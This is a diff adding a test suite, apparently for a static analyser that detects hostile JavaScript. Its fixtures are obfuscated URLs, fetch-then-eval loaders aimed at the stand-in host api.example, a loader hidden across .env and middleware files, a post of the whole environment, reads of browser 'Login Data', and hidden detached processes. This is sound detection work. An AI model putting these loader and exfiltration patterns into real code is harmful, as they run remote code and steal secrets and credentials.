@@ -1,0 +1,280 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { effectsOf, onlyEffect, readFiles } from "./read-program.test-support.ts";
+
+const hex = (text: string) => Buffer.from(text).toString("hex");
+const base64 = (text: string) => Buffer.from(text).toString("base64");
+const address = "https://api.example/v1";
+
+describe("a constant is known however it is written", () => {
+  const forms: Readonly<Record<string, string>> = {
+    concatenation: `"https://" + "api.example" + "/v1"`,
+    "a template": "`https://${'api'}.example/v1`",
+    "an array joined": `["https:", "", "api.example", "v1"].join("/")`,
+    "an array turned around": `"${[...address].toReversed().join("")}".split("").reverse().join("")`,
+    "character codes": `String.fromCharCode(${[...address].map((character) => character.charCodeAt(0)).join(",")})`,
+    "base64 for browsers": `atob("${base64(address)}")`,
+    "base64 in a Buffer": `Buffer.from("${base64(address)}", "base64").toString()`,
+    "hex in a Buffer": `Buffer.from("${hex(address)}", "hex").toString("utf8")`,
+    "bytes decoded": `new TextDecoder().decode(new Uint8Array([${[...Buffer.from(address)].join(",")}]))`,
+    "percent signs": `decodeURIComponent("${encodeURIComponent(address)}")`,
+    "a text with parts replaced": `"https://api#example/v1".replace(/#/g, ".")`,
+    "a choice that is already made": `true ? "${address}" : "https://other.example"`,
+    "a field of an object": `({ inner: { url: "${address}" } }).inner.url`,
+    "a function that masks characters": `(function (t, k) { let r = ""; for (let i = 0; i < t.length; i++) r += String.fromCharCode(t.charCodeAt(i) ^ k); return r; })(${JSON.stringify(
+      [...address].map((character) => String.fromCharCode(character.charCodeAt(0) ^ 9)).join(""),
+    )}, 9)`,
+    "a list mapped through a function": `[${[...address].map((character) => character.charCodeAt(0) + 3).join(",")}].map((n) => String.fromCharCode(n - 3)).join("")`,
+    "a default of a parameter": `((url = "${address}") => url)()`,
+    "a class that keeps it": `new (class { constructor(u) { this.u = u; } get() { return this.u; } })("${address}").get()`,
+    "destructuring with a rest": `(({ a, ...rest }) => rest.b)({ a: 1, b: "${address}" })`,
+    escapes: `"\\x68\\x74\\x74\\x70\\x73://api.example/v1"`,
+  };
+  for (const [name, expression] of Object.entries(forms)) {
+    test(name, async () => {
+      const [request] = await effectsOf("request", `fetch(${expression});`);
+      assert.deepEqual(request?.subject.texts, [address]);
+    });
+  }
+
+  test("a loop at the top of a file that masks numbers", async () => {
+    const codes = [...address].map((character) => character.charCodeAt(0) ^ 17);
+    const source = `const codes = [${codes.join(",")}]; let url = ""; for (const code of codes) url += String.fromCharCode(code ^ 17); fetch(url);`;
+    const [request] = await effectsOf("request", source);
+    assert.deepEqual(request?.subject.texts, [address]);
+    assert.ok(request.subject.encodings.includes("xor"));
+  });
+
+  test("an array of strings that is turned until a sum is right, as obfuscators write it", async () => {
+    const source = `
+      function names() { const all = ["17", "${address}", "get", "5"]; names = function () { return all; }; return names(); }
+      function pick(index) { const all = names(); return all[index - 7]; }
+      (function (list, goal) { const all = list(); while (true) { try { const sum = parseInt(pick(7)) + parseInt(pick(8)); if (sum === goal) break; all.push(all.shift()); } catch (e) { all.push(all.shift()); } } })(names, 22);
+      require("https")[pick(10)](pick(9));`;
+    const [request] = await effectsOf("request", source);
+    assert.deepEqual(request?.subject.texts, [address]);
+  });
+
+  test("statements cut into cases that run in a hidden order", async () => {
+    const source = `const order = "2|0|1".split("|"); let step = 0; let url = "";
+      while (true) { switch (order[step++]) { case "0": url += "api.example"; continue; case "1": url += "/v1"; continue; case "2": url += "https://"; continue; } break; }
+      fetch(url);`;
+    const [request] = await effectsOf("request", source);
+    assert.deepEqual(request?.subject.texts, [address]);
+  });
+});
+
+describe("what the network answers is followed into evaluation", () => {
+  const ways: Readonly<Record<string, string>> = {
+    "a promise": `require("axios").get("${address}").then((r) => eval(r.data));`,
+    await: `(async () => { const r = await fetch("${address}"); const code = await r.text(); new Function(code)(); })();`,
+    "a callback": `require("request")("${address}", (error, response, body) => { eval(body); });`,
+    "events of a stream": `require("https").get("${address}", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });`,
+    "a property of an XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("GET", "${address}"); x.onload = function () { eval(this.responseText); }; x.send();`,
+    "a socket": `require("socket.io-client")("${address}").on("run", (code) => eval(code));`,
+    "a promise made by hand": `new Promise((done) => require("https").get("${address}", (r) => done(r))).then((r) => eval(r.body));`,
+    "a field of a class": `class Client { async load() { this.answer = await fetch("${address}"); } run() { eval(this.answer.body); } } const c = new Client(); c.load(); c.run();`,
+    "a function with another name": `const run = eval; const go = run; fetch("${address}").then((r) => (0, go)(r));`,
+    "the constructor of a function": `fetch("${address}").then((r) => (async () => {}).constructor(r.body)());`,
+    "the constructor of a constructor": `fetch("${address}").then((r) => [].constructor.constructor(r.body)());`,
+    "a computed name on the global object": `fetch("${address}").then((r) => globalThis["ev" + "al"](r.body));`,
+    Reflect: `fetch("${address}").then((r) => Reflect.construct(Function, [r.body])());`,
+    "a timer that takes text": `fetch("${address}").then((r) => setTimeout(r.body, 10));`,
+    vm: `fetch("${address}").then((r) => require("vm").runInThisContext(r.body));`,
+    "a module compiled by hand": `fetch("${address}").then((r) => { const m = new module.constructor(); m._compile(r.body, "x"); });`,
+    "JSON parsed on the way": `fetch("${address}").then((r) => { const { code } = JSON.parse(r.body); eval(code); });`,
+  };
+  for (const [name, source] of Object.entries(ways)) {
+    test(name, async () => {
+      const evaluations = await effectsOf("evaluate", source);
+      const origin = evaluations.flatMap((effect) => effect.subject.origins).find(({ kind }) => kind === "network");
+      assert.deepEqual(origin?.address?.texts, [address]);
+    });
+  }
+
+  test("the body of an error that a request throws is marked as such", async () => {
+    const source = `(async () => { try { await require("axios").get("${address}"); } catch (error) { eval(error.response.data); } })();`;
+    const [evaluation] = await effectsOf("evaluate", source);
+    assert.deepEqual(
+      evaluation?.subject.origins.map(({ kind, part }) => [kind, part]),
+      [["network", "error"]],
+    );
+  });
+
+  test("headers and cookies are marked as such", async () => {
+    const evaluations = await effectsOf(
+      "evaluate",
+      `fetch("${address}").then((r) => { eval(r.headers.get("x-code")); eval(r.data.cookie); });`,
+    );
+    assert.deepEqual(
+      evaluations.map(({ subject }) => subject.origins[0]?.part),
+      ["header", "cookie"],
+    );
+  });
+
+  test("through files: an address in .env, a request in one, evaluation under an innocent name in another", async () => {
+    const { effects } = await readFiles({
+      ".env": `PORT=3000\nAUTH_API_KEY="${base64(address)}"\n`,
+      "config.js": `require("dotenv").config(); module.exports = { key: process.env.AUTH_API_KEY };`,
+      "routes/auth.js": `const axios = require("axios"); const { errorHandler } = require("../middleware/error"); const config = require("../config");
+        (async () => { try { const answer = await axios.get(atob(config.key)); errorHandler(answer.data.cookie); } catch { } })();`,
+      "middleware/error.js": `const make = (text) => new Function.constructor("require", text); module.exports.errorHandler = (error) => { const handle = make(error); handle(require); };`,
+    });
+    const evaluation = effects.find(({ kind }) => kind === "evaluate");
+    const [origin] = evaluation?.subject.origins ?? [];
+    assert.equal(evaluation?.at.path, "middleware/error.js");
+    assert.ok(evaluation.traits.includes("given-loader"));
+    assert.equal(origin?.place.path, "routes/auth.js");
+    assert.deepEqual(
+      origin.hops.map(({ path }) => path),
+      ["routes/auth.js"],
+    );
+    assert.deepEqual(origin.address?.encodings, ["base64"]);
+    assert.deepEqual(
+      origin.address.origins.map(({ kind, detail, place }) => [kind, detail, place.path, place.line]),
+      [["environment", "AUTH_API_KEY", ".env", 2]],
+    );
+  });
+
+  test("through re-exports, a default import with another name and a class method", async () => {
+    const { effects } = await readFiles({
+      "index.ts": `import Loader, { run as execute } from "./lib"; execute(new Loader().load());`,
+      "lib/index.ts": `export { default } from "./loader"; export * from "./run";`,
+      "lib/loader.ts": `export default class Remote { load() { return fetch("${address}").then((r) => r.text()); } }`,
+      "lib/run.ts": `export function run(code: string): void { (globalThis as any).eval(code); }`,
+    });
+    const [origin] = onlyEffect(effects, "evaluate").subject.origins;
+    assert.equal(origin?.place.path, "lib/loader.ts");
+  });
+});
+
+describe("other flows", () => {
+  test("the whole environment is sent", async () => {
+    const [request] = await effectsOf("request", `require("axios").post("${address}", { ...process.env, at: 1 });`);
+    assert.deepEqual(
+      request?.payload?.origins.map(({ kind }) => kind),
+      ["whole-environment"],
+    );
+  });
+
+  test("the environment given to a child process is not sent anywhere", async () => {
+    const { effects } = await readFiles({
+      "index.js": `require("child_process").spawn("node", ["a.js"], { env: { ...process.env, A: "1" } });`,
+    });
+    assert.deepEqual(
+      effects.map(({ kind }) => kind),
+      ["run"],
+    );
+  });
+
+  test("a downloaded file is written", async () => {
+    const source = `const fs = require("fs"); require("https").get("${address}", (r) => { r.pipe(fs.createWriteStream("/tmp/tool")); });`;
+    const { effects } = await readFiles({ "index.js": source });
+    const write = effects.find(({ kind, payload }) => kind === "write" && payload !== undefined);
+    assert.deepEqual(
+      write?.payload?.origins.map(({ kind }) => kind),
+      ["network"],
+    );
+  });
+
+  test("a hidden, detached process", async () => {
+    const [run] = await effectsOf(
+      "run",
+      `require("child_process").spawn("node", ["-e", code], { detached: true, stdio: "ignore", windowsHide: true }).unref();`,
+    );
+    assert.deepEqual(run?.traits, ["detached", "hidden-window", "silenced", "inline-code"]);
+  });
+
+  test("a program that is started from the arrival is named", async () => {
+    const { effects } = await readFiles({
+      "server/start.js": `const path = require("path"); require("child_process").fork(path.join(__dirname, "../public/fonts/icons.woff2"));`,
+      "public/fonts/icons.woff2": "console.log(1)",
+    });
+    assert.equal(onlyEffect(effects, "run").target, "public/fonts/icons.woff2");
+  });
+
+  test("a file of the arrival that is decoded and evaluated is read as code", async () => {
+    const { effects } = await readFiles({
+      "index.js": `const fs = require("fs"); eval(Buffer.from(fs.readFileSync(__dirname + "/data.txt", "utf8"), "base64").toString());`,
+      "data.txt": base64(`require("child_process").exec("id")`),
+    });
+    const run = onlyEffect(effects, "run");
+    assert.equal(run.layer, 1);
+    assert.deepEqual(run.subject.texts, ["id"]);
+  });
+
+  test("paths built from lists name every place they may mean", async () => {
+    const [read] = await effectsOf(
+      "read",
+      `const path = require("path"); for (const b of ["Chrome", "Brave"]) require("fs").readFileSync(path.join(require("os").homedir(), b, "Login Data"));`,
+    );
+    assert.deepEqual(read?.subject.texts, ["~/Chrome/Login Data", "~/Brave/Login Data"]);
+  });
+
+  test("what is only called by others is dormant, what a file does when loaded is not", async () => {
+    const { effects } = await readFiles({ "index.js": `eval(a); module.exports.later = () => eval(b);` });
+    assert.deepEqual(
+      effects.map(({ time }) => time),
+      ["load", "dormant"],
+    );
+  });
+});
+
+describe("texts that only look like code that acts", () => {
+  const quiet: Readonly<Record<string, string>> = {
+    "names in texts": `const rules = ["eval(atob(x))", "child_process.exec('curl x | sh')"]; module.exports = rules;`,
+    "names in comments": `// eval(fetch("https://api.example"))\n/* require("child_process").exec("id") */ module.exports = 1;`,
+    "own functions with telling names": `function exec(list) { return list.map((x) => x.eval); } module.exports = exec;`,
+    "a method of a database": `db.collection("users").exec((error, users) => users);`,
+    "a regular expression": `module.exports = (text) => /eval/.exec(text);`,
+  };
+  for (const [name, source] of Object.entries(quiet)) {
+    test(name, async () => {
+      const { effects } = await readFiles({ "index.js": source });
+      assert.deepEqual(effects, []);
+    });
+  }
+});
+
+describe("hostile programs", () => {
+  test("obfuscation in several layers of helper functions is followed however often the decoder is called", async () => {
+    const names = Array.from({ length: 60 }, (_none, index) => `k${index}`);
+    const calls = names.map((name, index) => `o[d("${Buffer.from(name).toString("base64")}")] = ${index};`).join("");
+    const source = `function d(t) { let r = ""; for (const c of atob(t)) r += String.fromCharCode(c.charCodeAt(0)); /* ${"x".repeat(400)} */ return r; }
+      const o = {}; ${calls} fetch("https://a.example/" + o.k59);`;
+    const [request] = await effectsOf("request", source);
+    assert.deepEqual(request?.subject.texts, ["https://a.example/59"]);
+  });
+
+  test("a program that calls itself without end is read to the end", async () => {
+    const { effects } = await readFiles({
+      "index.js": `function a(x) { return b(a(x)) } function b(x) { return a(b(x)) } a(1); eval(process.env.X);`,
+    });
+    assert.equal(onlyEffect(effects, "evaluate").via, "eval");
+  });
+
+  test("a decoder that never ends costs its steps and no more", async () => {
+    const source = `function d(t) { let r = ""; for (let i = 0; ; i++) r = t.charCodeAt(i % 3) + ""; return r; } fetch("https://a.example/" + d("abc"));`;
+    const [request] = await effectsOf("request", source);
+    assert.ok(request?.subject.texts.every((text) => text.startsWith("https://a.example/")));
+  });
+
+  test("a decoder cannot reach the host", async () => {
+    const source = `function d(t) { for (let i = 0; i < 1; i++) t = t.charAt(0); return typeof process + typeof require + typeof WebAssembly.Memory; } fetch(d("abc"));`;
+    const [request] = await effectsOf("request", source);
+    assert.deepEqual(request?.subject.texts, []);
+  });
+
+  test("keys that objects inherit are no keys", async () => {
+    const { effects } = await readFiles({
+      "index.js": `const o = {}; o.__proto__.x = 1; o["constructor"]["hasOwnProperty"](); "a".__proto__.toString(); [].hasOwnProperty(1);`,
+    });
+    assert.deepEqual(effects, []);
+  });
+
+  test("a broken file is named with a reason and costs no other", async () => {
+    const { unparsed, effects } = await readFiles({ "broken.js": "function (", "index.js": "eval(x)" });
+    assert.deepEqual([...unparsed.keys()], ["broken.js"]);
+    assert.equal(effects.length, 1);
+  });
+});
